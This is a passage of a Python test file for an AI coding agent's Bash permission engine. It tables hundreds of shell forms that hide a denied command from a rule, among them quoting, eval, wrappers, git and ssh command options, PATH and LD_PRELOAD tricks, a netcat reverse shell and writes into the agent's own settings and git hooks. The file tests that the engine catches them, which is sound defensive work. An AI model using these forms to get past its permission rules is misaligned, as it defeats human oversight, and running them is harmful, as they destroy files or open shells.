"""Bash permission decisions on real parses: ways to hide a program from a rule, and a normal working day.

Each bypass row gives the decision under a deny rule ``Bash(rm:*)`` in bypassPermissions mode (deny wins
in every mode, so nothing that might run rm may be allowed there), and under an allow rule chosen for the
row in default mode (a wrapper, an expansion or a write outside the project must not ride on it). With no
rules, acceptEdits allows none of them.
"""

import pytest

from tests.helpers.permissions import WORKING_DAY, WORKING_DAY_RULES, RuleSettings
from tools.permissions.engine import Permissions

DENY_RM = ["Bash(rm:*)"]

# (command, decision under deny Bash(rm:*) in bypassPermissions, allow rule(s), decision under them)
BYPASSES = [
    # the program hidden by quoting, escapes, expansions, globs, braces, paths
    ("rm f", "deny", "Bash(rm:*)", "allow"),
    ("\\rm f", "deny", "Bash(rm:*)", "allow"),
    ("r\\m f", "deny", "Bash(rm:*)", "allow"),
    ("r''m f", "deny", "Bash(rm:*)", "allow"),
    ('"r"m f', "deny", "Bash(rm:*)", "allow"),
    ("'rm' f", "deny", "Bash(rm:*)", "allow"),
    ("/usr/bin/rm f", "deny", "Bash(rm:*)", "ask"),
    ("./rm f", "deny", "Bash(rm:*)", "ask"),
    ("$'rm' f", "deny", "Bash(rm:*)", "ask"),
    ("$'\\x72m' f", "deny", "Bash(rm:*)", "ask"),
    ("rm${IFS}f", "deny", "Bash(rm:*)", "ask"),
    ("rm$IFS f", "deny", "Bash(rm:*)", "ask"),
    ("X=rm; $X f", "deny", "Bash(rm:*)", "ask"),
    ("${CMD} f", "deny", "Bash(rm:*)", "ask"),
    ('a=rm; "$a" f', "deny", "Bash(rm:*)", "ask"),
    ("$(echo rm) f", "deny", "Bash(echo:*)", "ask"),
    ("$(printf rm) f", "deny", "Bash(printf:*)", "ask"),
    ("`echo rm` f", "deny", "Bash(echo:*)", "ask"),
    ("/bin/r[m] f", "deny", "Bash(/bin/rm:*)", "ask"),
    ("/bin/r? f", "deny", "Bash(rm:*)", "ask"),
    ("/bin/r* f", "deny", "Bash(rm:*)", "ask"),
    ("{rm,f}", "deny", "Bash(rm:*)", "ask"),
    ("{rm,-f} x", "deny", "Bash(rm:*)", "ask"),
    ("~/bin/rm f", "deny", "Bash(rm:*)", "ask"),
    ("r\\\nm f", "deny", "Bash(r:*)", "ask"),  # bash joins r\<newline>m into rm
    ("rm", "deny", "Bash(echo:*)", "ask"),
    # lists, pipelines, groups, conditionals, loops, case
    ("echo x; rm f", "deny", "Bash(echo:*)", "ask"),
    ("false || rm f", "deny", "Bash(false)", "ask"),
    ("ls | rm f", "deny", "Bash(ls:*)", "ask"),
    ("(rm f)", "deny", "Bash(echo:*)", "ask"),
    ("{ rm f; }", "deny", "Bash(echo:*)", "ask"),
    ("! rm f", "deny", "Bash(echo:*)", "ask"),
    ("if true; then rm f; fi", "deny", "Bash(true)", "ask"),
    ("while false; do rm f; done", "deny", "Bash(false)", "ask"),
    ("for i in 1; do rm f; done", "deny", "Bash(echo:*)", "ask"),
    ("case x in x) rm f;; esac", "deny", "Bash(echo:*)", "ask"),
    ("[[ $(rm f) ]]", "deny", "Bash(echo:*)", "ask"),
    # substitutions and heredocs
    ("echo `rm f`", "deny", "Bash(echo:*)", "ask"),
    ("echo $(rm f)", "deny", "Bash(echo:*)", "ask"),
    ("echo `echo \\`rm f\\``", "deny", "Bash(echo:*)", "ask"),  # backquotes nest through \`
    ("echo `echo \\$(rm f)`", "deny", "Bash(echo:*)", "ask"),
    ("cat <(rm f)", "deny", "Bash(cat:*)", "ask"),
    ("echo x > >(rm f)", "deny", "Bash(echo:*)", "ask"),
    ("x=$(rm f)", "deny", "Bash(echo:*)", "ask"),
    ("a[$(rm f)]=1", "deny", "Bash(echo:*)", "ask"),
    ("echo ${x:-$(rm f)}", "deny", "Bash(echo:*)", "ask"),
    ("cat <<EOF\n$(rm f)\nEOF", "deny", "Bash(cat:*)", "ask"),
    ("cat <<'EOF'\n$(rm f)\nEOF", "allow", "Bash(cat:*)", "allow"),  # a quoted heredoc is only text
    # shells and code runners
    ("bash -c 'rm f'", "deny", "Bash(bash:*)", "ask"),
    ("bash -o pipefail -c 'rm f'", "deny", "Bash(bash:*)", "ask"),
    ("sh -ec 'rm f'", "deny", "Bash(sh:*)", "ask"),
    ("bash -c 'bash -c \"rm f\"'", "deny", "Bash(bash:*)", "ask"),
    ('bash -c "$CMD"', "deny", "Bash(bash:*)", "ask"),
    ("echo 'rm f' | bash", "deny", "Bash(echo:*)", "ask"),
    ("bash <<< 'rm f'", "deny", "Bash(bash:*)", "ask"),
    ("cat <<EOF | bash\nrm f\nEOF", "deny", "Bash(cat:*)", "ask"),
    ("bash -s < script.sh", "deny", "Bash(bash:*)", "ask"),
    ("sh script.sh", "deny", "Bash(sh:*)", "ask"),
    ("bash --rcfile x.sh -c true", "deny", "Bash(true)", "ask"),
    ("zsh -c 'rm f'", "deny", "Bash(zsh:*)", "ask"),
    ("fish -c 'rm f'", "deny", "Bash(fish:*)", "ask"),
    (". ./x.sh", "deny", "Bash(.:*)", "ask"),
    ("source x", "deny", "Bash(source:*)", "ask"),
    ("eval rm f", "deny", "Bash(eval:*)", "ask"),
    ('eval "$(echo rm f)"', "deny", "Bash(echo:*)", "ask"),
    ("exec rm f", "deny", "Bash(exec:*)", "ask"),
    ("exec -a x rm f", "deny", "Bash(exec:*)", "ask"),
    ('f() { rm "$@"; }; f x', "deny", "Bash(f:*)", "ask"),
    ("function g { echo; }; g", "deny", "Bash(g)", "ask"),
    ("alias r=rm", "deny", "Bash(alias:*)", "ask"),
    ("trap 'rm f' EXIT", "deny", "Bash(trap:*)", "ask"),
    ("coproc rm f", "deny", "Bash(coproc:*)", "ask"),
    ("hash -p /bin/rm ls; ls f", "deny", "Bash(ls:*)", "ask"),
    ("enable -f ./x.so rm", "deny", "Bash(enable:*)", "ask"),
    ('python -c "import os"', "deny", "Bash(python:*)", "ask"),
    ("python3 - <<'EOF'\nimport os\nEOF", "deny", "Bash(python3:*)", "ask"),
    ("perl -e 'unlink \"f\"'", "deny", "Bash(perl:*)", "ask"),
    ("ruby -e 'File.delete(\"f\")'", "deny", "Bash(ruby:*)", "ask"),
    ('node -e \'require("fs").rmSync("f")\'', "deny", "Bash(node:*)", "ask"),
    ("awk 'BEGIN { system(\"rm f\") }'", "deny", "Bash(awk:*)", "ask"),
    ("mapfile -C 'rm f' -c 1 a < list", "deny", "Bash(mapfile:*)", "ask"),
    # programs that run programs
    ("command rm f", "deny", "Bash(command:*)", "ask"),
    ("command -p rm f", "deny", "Bash(command:*)", "ask"),
    ("builtin command rm f", "deny", "Bash(builtin:*)", "ask"),
    ("env rm f", "deny", "Bash(env:*)", "ask"),
    ("env -i rm f", "deny", "Bash(env:*)", "ask"),
    ("env -S 'rm f'", "deny", "Bash(env:*)", "ask"),
    ("nice -n 5 rm f", "deny", "Bash(rm:*)", "allow"),  # nice only changes how, not what
    ("nice -5 rm f", "deny", "Bash(nice:*)", "ask"),
    ("timeout 5 rm f", "deny", "Bash(timeout:*)", "ask"),
    ("timeout -s KILL 5s rm f", "deny", "Bash(timeout:*)", "ask"),
    ("timeout --bogus 5 rm f", "deny", "Bash(timeout:*)", "ask"),
    ("nohup rm f &", "deny", "Bash(nohup:*)", "ask"),
    ("time rm f", "deny", "Bash(time:*)", "ask"),
    ("time ! rm f", "deny", "Bash(time:*)", "ask"),  # the keyword times a pipeline, negated or not
    ("time -p rm f | cat", "deny", ("Bash(time:*)", "Bash(cat:*)"), "ask"),
    ("time { rm f; }", "deny", "Bash(time:*)", "ask"),  # the grammar splits the group at its ";"
    ("'time' rm f", "deny", "Bash(time:*)", "ask"),  # /usr/bin/time
    ("stdbuf -o0 rm f", "deny", "Bash(stdbuf:*)", "ask"),
    ("setsid rm f", "deny", "Bash(setsid:*)", "ask"),
    ("sudo rm f", "deny", "Bash(rm:*)", "ask"),  # sudo needs a rule of its own
    ("sudo -u x rm f", "deny", "Bash(sudo:*)", "ask"),
    ("sudo sh -c 'rm f'", "deny", "Bash(sudo:*)", "ask"),
    ("doas rm f", "deny", "Bash(doas:*)", "ask"),
    ("busybox rm f", "deny", "Bash(busybox:*)", "ask"),
    ("watch -n 1 rm f", "deny", "Bash(watch:*)", "ask"),
    ("parallel rm ::: a b", "deny", "Bash(parallel:*)", "ask"),
    ("xargs rm < list", "deny", "Bash(xargs:*)", "ask"),
    ("ls | xargs -0 -I{} rm {}", "deny", ("Bash(ls:*)", "Bash(xargs:*)"), "ask"),
    ("find . -exec rm {} \\;", "deny", "Bash(find:*)", "ask"),
    ("find . -name x -execdir rm {} +", "deny", "Bash(find:*)", "ask"),
    ("find . -ok rm {} \\;", "deny", "Bash(find:*)", "ask"),
    ("find . -name '*.tmp' -delete", "deny", "Bash(find:*)", "ask"),
    ("su -c 'rm f'", "deny", "Bash(su:*)", "ask"),
    ("script -c 'rm f' /dev/null", "deny", "Bash(script:*)", "ask"),
    ("command $RM f", "deny", "Bash(command:*)", "ask"),
    # variables that change which program runs
    ("PATH=./evil:$PATH git status", "deny", "Bash(git status)", "ask"),
    ("export PATH=./evil:$PATH; git status", "deny", "Bash(git status)", "ask"),
    ("env PATH=. git status", "deny", "Bash(git status)", "ask"),
    ("BASH_ENV=./x.sh bash -c true", "deny", "Bash(true)", "ask"),
    ("LD_PRELOAD=./x.so ls", "deny", "Bash(ls:*)", "ask"),
    ("IFS=/ ls", "deny", "Bash(ls:*)", "ask"),
    ("PYTHONPATH=. python -m pytest", "deny", "Bash(python -m pytest:*)", "ask"),
    ("NODE_OPTIONS='--require ./x.js' npm test", "deny", "Bash(npm test)", "ask"),
    ("GIT_SSH_COMMAND='rm f' git fetch", "deny", "Bash(git fetch:*)", "ask"),
    ("GIT_CONFIG_GLOBAL=./x git status", "deny", "Bash(git status)", "ask"),
    ("git -c core.pager='rm f' log", "deny", "Bash(git:*)", "ask"),
    ("declare -n r=PATH; r=./evil; git status", "deny", "Bash(git status)", "ask"),
    ("read PATH < p; git status", "deny", ("Bash(read:*)", "Bash(git status)"), "ask"),
    ("env 'BASH_FUNC_git%%=() { rm f; }' bash -c 'git status'", "deny", "Bash(git status)", "ask"),
    # arithmetic that bash can turn into a command
    ("x=$(cat f); echo $((x))", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("printf -v 'a[$(rm f)]' x", "deny", "Bash(printf:*)", "ask"),
    ("let x=1", "deny", "Bash(let:*)", "ask"),
    # redirections writing outside the project or into the agent's own controls
    ("echo x > ../P", "allow", "Bash(echo:*)", "ask"),
    ("echo x >> /tmp/P", "allow", "Bash(echo:*)", "ask"),
    ("echo x &> ../P", "allow", "Bash(echo:*)", "ask"),
    ("echo x >| ../P", "allow", "Bash(echo:*)", "ask"),
    ("echo x >& ../P", "allow", "Bash(echo:*)", "ask"),
    ("exec 3> ../P", "allow", "Bash(echo:*)", "ask"),
    ('echo x > "$OUT"', "allow", "Bash(echo:*)", "ask"),
    ("echo x > ~/.bashrc", "allow", "Bash(echo:*)", "ask"),
    ("cd .. && echo x > P", "allow", ("Bash(cd:*)", "Bash(echo:*)"), "ask"),
    ("cd /tmp; echo x > P", "allow", ("Bash(cd:*)", "Bash(echo:*)"), "ask"),
    ("cd $D; echo x > P", "allow", ("Bash(cd:*)", "Bash(echo:*)"), "ask"),
    ("cd -P up/.. && echo x > P", "allow", ("Bash(cd:*)", "Bash(echo:*)"), "ask"),  # up -> outside
    ("echo x > .claude/settings.json", "allow", "Bash(echo:*)", "ask"),
    ("echo x > .claude/hooks/pre.sh", "allow", "Bash(echo:*)", "ask"),
    ("echo x > .git/hooks/pre-commit", "allow", "Bash(echo:*)", "ask"),
    ("echo x >> .git/config", "allow", "Bash(echo:*)", "ask"),
    # only mentioning the word
    ("echo rm f", "allow", "Bash(echo:*)", "allow"),
    ("git rm f", "allow", "Bash(git rm:*)", "allow"),
    ("grep -r rm .", "allow", "Bash(grep:*)", "allow"),
    ("echo '(rm f)'", "allow", "Bash(echo:*)", "allow"),
    ("rmdir x", "allow", "Bash(rmdir:*)", "allow"),
]


def perms(project, **kwargs):
    return Permissions(
        RuleSettings(
            cwd=project, home=project.parent / "agent-home", user_home=project.parent / "home", **kwargs
        )
    )


@pytest.fixture
def project(tmp_path):
    root = tmp_path / "project"
    root.mkdir()
    return root


def test_the_bypass_table_is_large():
    assert len(BYPASSES) >= 80


@pytest.mark.parametrize(("command", "under_deny", "rules", "under_allow"), BYPASSES)
def test_bypass_forms(project, command, under_deny, rules, under_allow):
    (project / "up").symlink_to(project.parent)
    rules = [rules] if isinstance(rules, str) else list(rules)
    denying = perms(project, deny=DENY_RM, permission_mode="bypassPermissions")
    allowing = perms(project, allow=rules)
    editing = perms(project, permission_mode="acceptEdits")
    assert (
        denying.check("Bash", {"command": command}).behavior,
        allowing.check("Bash", {"command": command}).behavior,
        editing.check("Bash", {"command": command}).behavior,
    ) == (under_deny, under_allow, "allow" if command in ONLY_LOOK else "ask")


# forms of the tables that only read inside the project: without any rule they run without a question
# (issue 32: read-only commands in default and acceptEdits mode), every other form asks
ONLY_LOOK = {
    "cat <<'EOF'\n$(rm f)\nEOF",
    "echo rm f",
    "grep -r rm .",
    "echo '(rm f)'",
    '[ "$(cat f)" -eq 1 ] && echo',
    "k=3; a=([k]=1); echo ok",
}


def test_the_working_day_table_is_large():
    assert len(WORKING_DAY) >= 90


@pytest.mark.parametrize("deny", [[], DENY_RM], ids=["no deny rule", "deny rm"])
@pytest.mark.parametrize("command", WORKING_DAY)
def test_a_working_day_is_allowed_by_the_rules_that_name_it(project, command, deny):
    (project / "logs").mkdir()
    decision = perms(project, allow=WORKING_DAY_RULES, deny=deny).check("Bash", {"command": command})
    assert decision.behavior == "allow", decision.reason


# ---- issue 20: what bash evaluates as code, wrappers' real grammars, programs that run commands ---------

# same columns as BYPASSES: under deny Bash(rm:*) in bypassPermissions, and under the row's allow rules.
# Whatever can't be judged statically is refused under the deny rule (fail closed) and asks under allow.
CODE_EVALUATION = [
    # prompt expansion runs $(...) held in a value; indirection and arithmetic evaluate subscripts
    ("x='$(rm f)'; echo \"${x@P}\"", "deny", "Bash(echo:*)", "ask"),
    ('read -r x < f; echo "${x@P}"', "deny", ("Bash(read:*)", "Bash(echo:*)"), "ask"),
    ("x='a[$(rm f)]'; echo ${!x}", "deny", "Bash(echo:*)", "ask"),
    ('z=$(cat f); echo "${!z}"', "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); echo ${x:y}", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); echo ${x:0:y}", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); echo ${a[y]}", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); echo ${a[$y]}", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); echo ${#a[y]}", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); echo ${b[@]:y}", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); echo $[y]", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); ((y)) && echo", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); [[ $y -eq 1 ]] && echo", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("y=$(cat f); [[ 1 -lt y ]] && echo", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("[[ $(cat f) -gt 0 ]] && echo", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("declare -i n; read n < f", "deny", ("Bash(read:*)", "Bash(declare:*)"), "ask"),
    ("read v < f; declare -i n=v", "deny", "Bash(read:*)", "ask"),
    ("y=$(cat f); for ((i=y; i<3; i++)); do echo; done", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    # values bash fills from the line itself: positional parameters, $_, a loop over data
    ('set -- "$(cat f)"; echo $(($1))', "deny", ("Bash(set:*)", "Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("echo 'a[$(rm f)]'; echo $((_))", "deny", "Bash(echo:*)", "ask"),
    ("for v in $(cat f); do echo $((v)); done", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    ("mapfile -t a < f; echo $((a))", "deny", ("Bash(mapfile:*)", "Bash(echo:*)"), "ask"),
    ("x=$(cat f); y=x; echo $((y))", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),  # through a name
    ("unset 'a[$(rm f)]'", "deny", "Bash(unset:*)", "ask"),
    ("y=$(cat f); [[ -v a[$y] ]] && echo", "deny", ("Bash(cat:*)", "Bash(echo:*)"), "ask"),
    # arithmetic on values the line fixes, or on bash's own numbers, stays ordinary
    ("n=5; echo $((n * 2))", "allow", "Bash(echo:*)", "allow"),
    ("i=0; while ((i < 3)); do echo $i; i=$((i + 1)); done", "allow", "Bash(echo:*)", "allow"),
    ("echo $(($# + 1)) ${x:1} ${#x} ${!p*}", "allow", "Bash(echo:*)", "allow"),
    ('[ "$(cat f)" -eq 1 ] && echo', "allow", ("Bash(cat:*)", "Bash(echo:*)", "Bash([:*)"), "allow"),
]

WRAPPERS = [
    # xargs options whose value is optional: attached only, so the next word is the program
    ("echo y | xargs --replace rm echo P", "deny", ("Bash(echo:*)", "Bash(xargs:*)"), "ask"),
    ("echo y | xargs --replace touch echo P", "allow", ("Bash(echo:*)", "Bash(xargs:*)"), "ask"),
    ("xargs -i rm {} < list", "deny", "Bash(xargs:*)", "ask"),
    ("xargs -iX rm X < list", "deny", "Bash(xargs:*)", "ask"),
    ("xargs -e rm < list", "deny", "Bash(xargs:*)", "ask"),
    ("xargs --eof rm < list", "deny", "Bash(xargs:*)", "ask"),
    ("xargs -l rm < list", "deny", "Bash(xargs:*)", "ask"),
    ("xargs --max-lines rm < list", "deny", "Bash(xargs:*)", "ask"),
    ("xargs -E END rm < list", "deny", "Bash(xargs:*)", "ask"),
    ("xargs --repl rm < list", "deny", "Bash(xargs:*)", "ask"),  # an abbreviation: unknown, fails closed
    ("flock /tmp/l -c 'rm f'", "deny", "Bash(flock:*)", "ask"),
    ("flock -w 5 /tmp/l --command 'rm f'", "deny", "Bash(flock:*)", "ask"),
    ("flock -n /tmp/l rm f", "deny", "Bash(flock:*)", "ask"),
    ("prlimit rm f", "deny", "Bash(prlimit:*)", "ask"),
    ("prlimit -n rm f", "deny", "Bash(prlimit:*)", "ask"),  # -n[LIMIT]: never the next word
    ("prlimit --nofile=64 rm f", "deny", "Bash(prlimit:*)", "ask"),
    ("setpriv rm f", "deny", "Bash(setpriv:*)", "ask"),
    ("setpriv --reuid 0 --init-groups rm f", "deny", "Bash(setpriv:*)", "ask"),
    ("/lib64/ld-linux-x86-64.so.2 /bin/rm f", "deny", "Bash(/lib64/ld-linux-x86-64.so.2:*)", "ask"),
    ("/lib/ld-musl-x86_64.so.1 --preload x.so /bin/ls", "deny", "Bash(ls:*)", "ask"),
    ("start-stop-daemon -S -x /bin/rm -- f", "deny", "Bash(start-stop-daemon:*)", "ask"),
    ("start-stop-daemon --start --exec /bin/rm", "deny", "Bash(start-stop-daemon:*)", "ask"),
    ("env --default-signal rm f", "deny", "Bash(env:*)", "ask"),
    ("timeout --kill-after 1 5 rm f", "deny", "Bash(timeout:*)", "ask"),
    ("stdbuf -oL rm f", "deny", "Bash(stdbuf:*)", "ask"),
    ("ionice -c3 rm f", "deny", "Bash(ionice:*)", "ask"),
    ("nice --adjustment=5 rm f", "deny", "Bash(nice:*)", "ask"),
]

COMMAND_RUNNERS = [
    ("sed '1e rm f' x", "deny", "Bash(sed:*)", "ask"),
    ("sed --expression='$e rm f' x", "deny", "Bash(sed:*)", "ask"),
    ("sed 's/.*/rm f/e' x", "deny", "Bash(sed:*)", "ask"),
    ("sed -n '/a/e' x", "deny", "Bash(sed:*)", "ask"),
    ("sed -f script.sed x", "deny", "Bash(sed:*)", "ask"),
    ("sed -n 's/a/b/gw ../P' x", "allow", "Bash(sed:*)", "ask"),
    ("tar -cf x.tar --to-command='rm f' .", "deny", "Bash(tar:*)", "ask"),
    ("tar -I 'rm f' -cf x.tar .", "deny", "Bash(tar:*)", "ask"),
    ("tar cIf 'rm f' x.tar .", "deny", "Bash(tar:*)", "ask"),
    ("tar --use-compress-program='rm f' -cf x.tar .", "deny", "Bash(tar:*)", "ask"),
    ("tar --checkpoint=1 --checkpoint-action=exec='rm f' -cf x.tar .", "deny", "Bash(tar:*)", "ask"),
    ("tar --info-script=x.sh -cf x.tar .", "deny", "Bash(tar:*)", "ask"),
    ("compgen -C 'rm f' x", "deny", "Bash(compgen:*)", "ask"),
    ("complete -C 'rm f' ls", "deny", "Bash(complete:*)", "ask"),
    ("vim -c '!rm f' x", "deny", "Bash(vim:*)", "ask"),
    ("vi '+!rm f' x", "deny", "Bash(vi:*)", "ask"),
    ("ex -c '!rm f' x", "deny", "Bash(ex:*)", "ask"),
    ("nvim --cmd '!rm f'", "deny", "Bash(nvim:*)", "ask"),
    ("echo '!rm f' | ed x", "deny", ("Bash(echo:*)", "Bash(ed:*)"), "ask"),
    ("ssh -o ProxyCommand='rm f' host", "deny", "Bash(ssh:*)", "ask"),
    ("ssh -oProxyCommand='rm f' host true", "deny", "Bash(ssh:*)", "ask"),
    ("ssh -o 'LocalCommand rm f' -o PermitLocalCommand=yes host", "deny", "Bash(ssh:*)", "ask"),
    ("scp -o ProxyCommand='rm f' a host:b", "deny", "Bash(scp:*)", "ask"),
    ("ssh -F ./cfg host", "deny", "Bash(ssh:*)", "ask"),
    ("rsync -e 'rm f' a host:b", "deny", "Bash(rsync:*)", "ask"),
    ("git rebase --exec 'rm f' main", "deny", "Bash(git rebase:*)", "ask"),
    ("git rebase -x 'rm f' main", "deny", "Bash(git rebase:*)", "ask"),
    ("git rebase -i main", "deny", "Bash(git rebase:*)", "ask"),
    ("git difftool -x 'rm f'", "deny", "Bash(git difftool:*)", "ask"),
    ("git difftool --extcmd='rm f' HEAD", "deny", "Bash(git difftool:*)", "ask"),
    ("git st", "deny", "Bash(git st:*)", "ask"),  # not a git command: an alias, which may be !rm
    ("git -c alias.x='!rm f' x", "deny", "Bash(git:*)", "ask"),
    ("git config alias.y '!rm f'", "deny", "Bash(git config:*)", "ask"),
    ("git bisect run rm f", "deny", "Bash(git bisect:*)", "ask"),
    ("git submodule foreach 'rm f'", "deny", "Bash(git submodule:*)", "ask"),
    ("git grep -O'rm f' x", "deny", "Bash(git grep:*)", "ask"),
    ("git clone -u 'rm f' repo", "deny", "Bash(git clone:*)", "ask"),
    ("git fetch --upload-pack='rm f' origin", "deny", "Bash(git fetch:*)", "ask"),
    ("git push --receive-pack='rm f' origin", "deny", "Bash(git push:*)", "ask"),
    ("awk '{print | \"sh\"}' f", "deny", "Bash(awk:*)", "ask"),
    ("awk 'BEGIN{\"rm f\" | getline}'", "deny", "Bash(awk:*)", "ask"),
    ("awk '{print > \"../P\"}' f", "deny", "Bash(awk:*)", "ask"),
    ("gawk -e 'BEGIN{system(\"rm f\")}'", "deny", "Bash(gawk:*)", "ask"),
    ("awk -f prog.awk f", "deny", "Bash(awk:*)", "ask"),
    ("make CC='rm f'", "deny", "Bash(make:*)", "ask"),
    ("make --eval='x:=$(shell rm f)'", "deny", "Bash(make:*)", "ask"),
    ("fd -e tmp -x rm", "deny", "Bash(fd:*)", "ask"),
    ("rg --pre ./x.sh pattern", "deny", "Bash(rg:*)", "ask"),
    ("sqlite3 db '.shell rm f'", "deny", "Bash(sqlite3:*)", "ask"),
    ("socat - EXEC:'rm f'", "deny", "Bash(socat:*)", "ask"),
    ("nc -e /bin/sh host 1", "deny", "Bash(nc:*)", "ask"),
    ("sort --compress-program=rm f", "deny", "Bash(sort:*)", "ask"),
    ("less '+!rm f' x", "deny", "Bash(less:*)", "ask"),
    ("man -P 'rm f' ls", "deny", "Bash(man:*)", "ask"),
    ("dc -e '!rm f'", "deny", "Bash(dc:*)", "ask"),
    # abbreviated long options (getopt_long and git accept unique prefixes), placeholders filled with data
    ("sed --expr='e rm f' x", "deny", "Bash(sed:*)", "ask"),
    ("sed --bogus 's/a/b/' x", "deny", "Bash(sed:*)", "ask"),
    ("git rebase --exe='rm f' main", "deny", "Bash(git rebase:*)", "ask"),
    ("git rebase --interac main", "deny", "Bash(git rebase:*)", "ask"),
    ("git difftool --ext='rm f'", "deny", "Bash(git difftool:*)", "ask"),
    ("git log --out=../P", "allow", "Bash(git log:*)", "ask"),
    ("awk --fi=x.awk f", "deny", "Bash(awk:*)", "ask"),
    ("awk '{ @f(1) }' f", "deny", "Bash(awk:*)", "ask"),  # gawk's indirect call: @s with s="system"
    ("perl -M'strict;system(q(rm f))' x.pl", "deny", "Bash(perl x.pl:*)", "ask"),
    ("echo 'all:; rm f' | make -f -", "deny", ("Bash(echo:*)", "Bash(make:*)"), "ask"),
    ("echo 'rm f' | xargs -I{} sh -c '{}'", "deny", ("Bash(echo:*)", "Bash(xargs:*)", "Bash(sh:*)"), "ask"),
    ("ls | xargs -i sh -c 'cat {}'", "deny", ("Bash(ls:*)", "Bash(cat:*)"), "ask"),
    ("find . -name '*.sh' -exec sh -c 'echo {}' \\;", "deny", ("Bash(find:*)", "Bash(echo:*)"), "ask"),
    ("find . -exec {} \\;", "deny", "Bash(find:*)", "ask"),
    ("parallel {} ::: 'rm f'", "deny", "Bash(parallel:*)", "ask"),
    ("fd -x sh -c '{}'", "deny", "Bash(fd:*)", "ask"),
    ("echo 'rm f' | at now", "deny", ("Bash(echo:*)", "Bash(at:*)"), "ask"),
    ("LESS='+!rm f' git log", "deny", "Bash(git log:*)", "ask"),
    ("rview x", "deny", "Bash(rview:*)", "ask"),
    ("ssh -o Include=./cfg host", "deny", "Bash(ssh:*)", "ask"),
    # the same programs without a command-running option stay ordinary
    ("perl -MData::Dumper x.pl", "allow", "Bash(perl x.pl:*)", "ask"),  # a script file still needs its rule
    ("sed -n '/a/,/b/p; s/x/y/g' x", "allow", "Bash(sed:*)", "allow"),
    ("sed -i.bak 's/we/wo/' src/a.py", "allow", "Bash(sed:*)", "allow"),
    ("awk '$3 > 100 { print $1 }' f", "allow", "Bash(awk:*)", "allow"),
    ("awk -F, '{ s += $2 } END { print s }' f", "allow", "Bash(awk:*)", "allow"),
    ("tar czf out.tgz src", "allow", "Bash(tar:*)", "allow"),
    ("git rebase main", "allow", "Bash(git rebase:*)", "allow"),
    ("git config user.name", "allow", "Bash(git config:*)", "allow"),
    ("make -j4 test", "allow", "Bash(make:*)", "allow"),
    ("make test VERBOSE=1 DEBUG=no", "allow", "Bash(make:*)", "allow"),
    ("make CC=rm clean", "deny", "Bash(make:*)", "ask"),
    ("ssh host uptime", "allow", "Bash(ssh:*)", "allow"),
]


@pytest.mark.parametrize(
    ("command", "under_deny", "rules", "under_allow"), CODE_EVALUATION + WRAPPERS + COMMAND_RUNNERS
)
def test_code_evaluation_wrappers_and_command_runners(project, command, under_deny, rules, under_allow):
    test_bypass_forms(project, command, under_deny, rules, under_allow)


GLOBAL_OPTION_DENIES = [
    "Bash(git push:*)",
    "Bash(kubectl delete:*)",
    "Bash(npm publish:*)",
    "Bash(docker run:*)",
    "Bash(cargo publish:*)",
    "Bash(helm uninstall:*)",
    "Bash(terraform destroy:*)",
    "Bash(pip install:*)",
]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("git -C . push", "deny"),
        ("git --no-pager push", "deny"),
        ("git --work-tree=. push", "deny"),
        ("git -P -C sub --literal-pathspecs push origin", "deny"),
        ("git --git-dir=.git push", "deny"),
        ("git --bogus push", "deny"),  # unknown before the subcommand: fails closed
        ("git $OPT push", "deny"),
        ("kubectl -n prod delete pod x", "deny"),
        ("kubectl --namespace=prod delete pod x", "deny"),
        ("kubectl -nprod --context staging delete pod x", "deny"),
        ("npm --prefix . publish", "deny"),
        ("npm -w pkg publish", "deny"),
        ("docker --context x run img", "deny"),
        ("docker -H tcp://h:2375 run img", "deny"),
        ("cargo +nightly publish", "deny"),
        ("cargo -C sub publish", "deny"),
        ("helm -n web uninstall app", "deny"),
        ("terraform -chdir=infra destroy", "deny"),
        ("pip --isolated install x", "deny"),
        ("pip --proxy http://p install x", "deny"),
        ("git -C . status", "allow"),
        ("git --no-pager log -3", "allow"),
        ("kubectl -n prod get pods", "allow"),
        ("npm --prefix . test", "allow"),
        ("docker --context x ps", "allow"),
        ("terraform -chdir=infra plan", "allow"),
    ],
)
def test_subcommand_rules_match_past_global_options(project, command, expected):
    p = perms(project, deny=GLOBAL_OPTION_DENIES, permission_mode="bypassPermissions")
    decision = p.check("Bash", {"command": command})
    assert decision.behavior == expected, decision.reason


def test_allow_rules_see_past_global_options_only_when_they_change_output(project):
    p = perms(project, allow=["Bash(git log:*)", "Bash(npm test:*)"])
    assert p.check("Bash", {"command": "git --no-pager log -3"}).behavior == "allow"
    assert p.check("Bash", {"command": "npm --silent test"}).behavior == "allow"
    assert p.check("Bash", {"command": "git -C ../other log"}).behavior == "ask"
    assert p.check("Bash", {"command": "npm --prefix ../other test"}).behavior == "ask"


@pytest.mark.parametrize(
    "command",
    [
        "cp evil.json .claude/settings.json",
        "cp evil.json .claude/settings.local.json",
        "cp x .git/hooks/pre-commit",
        "cp x .git/hooks",  # into the directory: .git/hooks/x
        "cp -t .git/hooks x",
        "mv x .claude/settings.json",
        "install -m 755 x .git/hooks/pre-push",
        "ln -sf /tmp/x .git/hooks/pre-commit",
        "rsync x .claude/settings.json",
        "echo x | tee .claude/settings.json",
        "dd if=x of=.git/config",
        "sed -i 's/a/b/' .git/config",
        "curl -o .git/hooks/post-checkout https://example.com/x",
        "cp -r evil .claude",
